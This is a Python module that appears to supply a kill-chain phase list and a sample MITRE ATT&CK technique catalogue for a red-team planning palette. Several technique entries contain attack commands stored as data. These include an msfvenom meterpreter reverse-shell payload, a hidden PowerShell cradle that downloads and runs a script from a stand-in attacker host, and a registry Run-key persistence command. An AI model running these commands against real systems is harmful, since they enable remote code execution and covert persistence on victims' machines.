"""
Built-in kill-chain phases and a starter technique catalogue for the palette.

Entries are plain descriptors in the same shape the palette puts on a drag, so
they flow through `node_from_descriptor` exactly like a dropped payload.
"""

import json

KILL_CHAIN_PHASES = [
    {"id": "reconnaissance", "name": "Reconnaissance", "label": "Reconnaissance", "icon": "search", "order_index": 1},
    {"id": "weaponization", "name": "Weaponization", "label": "Weaponization", "icon": "hammer", "order_index": 2},
    {"id": "delivery", "name": "Delivery", "label": "Delivery", "icon": "send", "order_index": 3},
    {"id": "exploitation", "name": "Exploitation", "label": "Exploitation", "icon": "bug", "order_index": 4},
    {"id": "installation", "name": "Installation", "label": "Installation", "icon": "download", "order_index": 5},
    {"id": "command-and-control", "name": "Command & Control", "label": "Command & Control", "icon": "radio", "order_index": 6},
    {"id": "actions", "name": "Actions", "label": "Actions on Objectives", "icon": "flag", "order_index": 7},
]

SAMPLE_TECHNIQUES = [
    {
        "id": "t1595", "mitre_id": "T1595", "title": "Active Scanning",
        "description": "Probe victim infrastructure to find exposed services and versions.",
        "phase": "Reconnaissance", "category": "Network", "tags": ["scanning", "nmap"],
        "tools": ["nmap", "masscan"],
        "when_to_use": ["Scope is known and scanning is authorised"],
        "how_to_use": ["Sweep the range for live hosts", "Fingerprint open ports"],
        "commands": ["nmap -sV -p- 10.0.0.0/24"],
    },
    {
        "id": "t1593", "mitre_id": "T1593", "title": "Search Open Websites/Domains",
        "description": "Collect staff names, email formats and technology hints from public sources.",
        "phase": "Reconnaissance", "category": "OSINT", "tags": ["osint"],
        "tools": ["theHarvester"], "when_to_use": [], "how_to_use": [], "commands": [],
    },
    {
        "id": "t1587-001", "mitre_id": "T1587.001", "title": "Develop Capabilities: Malware",
        "description": "Build or adapt a payload matched to the target environment.",
        "phase": "Weaponization", "category": "Payload", "tags": ["payload"],
        "tools": ["msfvenom"], "when_to_use": [], "how_to_use": [],
        "commands": ["msfvenom -p windows/x64/meterpreter/reverse_https LHOST=attacker -f exe"],
    },
    {
        "id": "t1566-001", "mitre_id": "T1566.001", "title": "Spearphishing Attachment",
        "description": "Deliver a weaponised document to selected recipients by email.",
        "phase": "Delivery", "category": "Phishing", "tags": ["email", "phishing"],
        "tools": ["gophish"], "when_to_use": ["Target users open external attachments"],
        "how_to_use": [], "commands": [],
    },
    {
        "id": "t1190", "mitre_id": "T1190", "title": "Exploit Public-Facing Application",
        "description": "Abuse a weakness in an internet-facing service to gain code execution.",
        "phase": "Exploitation", "category": "Web", "tags": ["web", "rce"],
        "tools": ["burpsuite", "sqlmap"], "when_to_use": [], "how_to_use": [], "commands": [],
    },
    {
        "id": "t1059-001", "mitre_id": "T1059.001", "title": "PowerShell",
        "description": "Run commands and scripts through PowerShell on the compromised host.",
        "phase": "Exploitation", "category": "Execution", "tags": ["windows"],
        "tools": [], "when_to_use": [], "how_to_use": [],
        "commands": [{"command": "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker/a.ps1')\""}],
    },
    {
        "id": "t1547-001", "mitre_id": "T1547.001", "title": "Registry Run Keys / Startup Folder",
        "description": "Persist by adding a program to a Run key or the startup folder.",
        "phase": "Installation", "category": "Persistence", "tags": ["windows", "persistence"],
        "tools": ["reg"], "when_to_use": [], "how_to_use": [],
        "commands": ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\u.exe"],
    },
    {
        "id": "t1071-001", "mitre_id": "T1071.001", "title": "Web Protocols",
        "description": "Blend command-and-control traffic into ordinary HTTP(S).",
        "phase": "Command & Control", "category": "C2", "tags": ["http", "c2"],
        "tools": ["sliver"], "when_to_use": [], "how_to_use": [], "commands": [],
    },
    {
        "id": "t1041", "mitre_id": "T1041", "title": "Exfiltration Over C2 Channel",
        "description": "Send collected data out over the existing command-and-control channel.",
        "phase": "Actions", "category": "Exfiltration", "tags": ["exfiltration"],
        "tools": [], "when_to_use": [], "how_to_use": [], "commands": [],
    },
]


def phase_descriptor(phase):
    return {"type": "phase", "phase": dict(phase)}


def technique_descriptor(technique):
    return {"type": "technique", "technique": dict(technique)}


def encode_drag_payload(descriptor) -> bytes:
    """Serialises a palette descriptor for the drag MIME data."""
    return json.dumps(descriptor).encode("utf-8")


def filter_techniques(techniques, search="", phase=None):
    """
    Techniques whose title or description contains `search` (case-insensitive),
    optionally restricted to one phase name.
    """
    term = (search or "").strip().lower()
    result = []
    for technique in techniques:
        text = f"{technique.get('title', '')} {technique.get('description', '')}".lower()
        if term and term not in text:
            continue
        if phase and technique.get("phase") != phase:
            continue
        result.append(technique)
    return result
